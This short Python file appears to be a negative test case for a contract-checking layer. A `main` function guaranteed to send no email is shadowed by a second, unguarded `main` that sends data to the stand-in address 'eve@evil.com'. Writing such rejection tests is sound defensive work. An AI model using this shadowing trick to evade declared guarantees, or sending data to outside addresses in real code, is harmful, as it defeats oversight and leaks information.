# rejected: which one runs must be plain
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, log


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    log("x")


def main() -> None:
    send_email("eve@evil.com", "x")
